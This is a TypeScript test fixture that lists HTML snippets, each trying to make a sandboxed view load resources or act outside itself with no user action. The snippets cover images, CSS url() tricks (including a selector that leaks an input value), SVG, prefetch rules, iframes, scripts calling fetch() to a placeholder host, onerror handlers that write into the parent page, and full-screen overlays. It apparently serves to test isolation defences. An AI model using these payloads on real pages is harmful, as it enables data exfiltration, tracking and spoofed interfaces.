import type { ViewAttempt } from './view-attempts.ts';

/** Ways out of the view that need nobody. */
export const LOADING: Readonly<Record<string, ViewAttempt>> = {
  'an image': { html: '<img src="W/image">' },
  'a srcset and a picture': {
    html: '<picture><source srcset="W/a 1x"><img srcset="W/b 2x, H/c 1x"></picture>',
  },
  'an image of the host': {
    html: '<img src="H/image"><img src="//127.0.0.1/x"><img src="\\\\127.0.0.1\\x">',
  },
  'an input that is an image': { html: '<input type="image" src="W/input">' },
  'a background attribute': { html: '<table background="W/table"><tr><td background="W/cell">x</table>' },
  'a url() in a style attribute': { html: '<div style="background: url(W/css)">x</div>' },
  'a url() in a style element': { html: '<style>p { background: url("W/css") }</style>' },
  'an escaped url()': { html: '<style>p { background: u\\72l("W/css") }</style>' },
  'a url() behind a variable': {
    html: '<style>:root { --secret: url("W/css") } p { background: var(--secret) }</style>',
  },
  'a url() that a selector chooses': {
    html: '<style>input[value^="s"] { background: url("W/starts-with-s") }</style><input value="secret">',
  },
  'a url() of other properties': {
    html: `<style>p { list-style-image: url(W/list); display: list-item; border-image: url(W/border) 1;
      -webkit-mask-image: url(W/mask); content: url(W/content); cursor: url(W/cursor), auto; filter: url(W/filter#f) }</style>`,
  },
  'an @import': { html: '<style>@import "W/css"; @import url(H/css);</style>' },
  'a font': { html: '<style>@font-face { font-family: f; src: url(W/font) } p { font-family: f }</style>' },
  'an image-set()': { html: '<style>p { background: image-set("W/css" 1x) }</style>' },
  'a linked stylesheet': { html: '<link rel="stylesheet" href="W/css">' },
  media: { html: '<video src="W/v" poster="W/p" autoplay></video><audio src="W/a" autoplay></audio>' },
  'sources and tracks of media': {
    html: '<video autoplay><source src="W/source"><track default src="W/track"></video>',
  },
  'svg images and uses': {
    html: '<svg><image href="W/i"/><use href="W/u#x"/><filter id="f"><feImage xlink:href="W/f"/></filter><rect fill="url(W/r#a)" width="9" height="9"/></svg>',
  },
  'a style inside svg': { html: '<svg><style>p { background: url("W/css") }</style></svg>' },
  'an animated image': {
    html: '<svg><image width="9" height="9"><set attributeName="href" to="W/set"/></image></svg>',
  },
  'a meta refresh': { html: '<meta http-equiv="refresh" content="0; url=W/refresh">' },
  'a base': { html: '<base href="W/"><img src="base.png">' },
  preconnect: { html: '<link rel="preconnect" href="W/">' },
  'prefetch, preload, modulepreload and icons': {
    html: ['prefetch', 'preload', 'modulepreload', 'icon', 'prerender', 'manifest']
      .map((rel) => `<link rel="${rel}" as="image" href="W/${rel}">`)
      .join(''),
  },
  'frames and plug-ins': {
    html: '<iframe src="W/f"></iframe><iframe srcdoc="<img src=W/s>"></iframe><object data="W/o"></object><embed src="W/e">',
  },
  'a script': { html: '<script src="W/s"></script><script>fetch("W/inline")</script>' },
  'rules for speculation': {
    html: `<script type="speculationrules">{"prefetch": [{"urls": ["H/guess"], "eagerness": "immediate"}]}</script>`,
  },
  'an inline handler that runs by itself': { html: '<img src="data:," onerror="fetch(`W/onerror`)">' },
  "a script in the host's document": {
    html: '<img src="data:," onerror="parent.document.documentElement.dataset.reached = 1">',
  },
  'a script that draws over the host': {
    html: '<img src="data:," onerror="parent.document.body.insertAdjacentHTML(`beforeend`, `<div style=\'position: fixed; inset: 0; z-index: 9\'></div>`)">',
  },
  'boxes larger than the view': {
    html: `<div style="position: fixed; inset: -1000px; z-index: 2147483647; background: red">over</div>
      <dialog open style="position: fixed; inset: -1000px; width: 300vw; height: 300vh; max-width: none">over</dialog>`,
  },
};
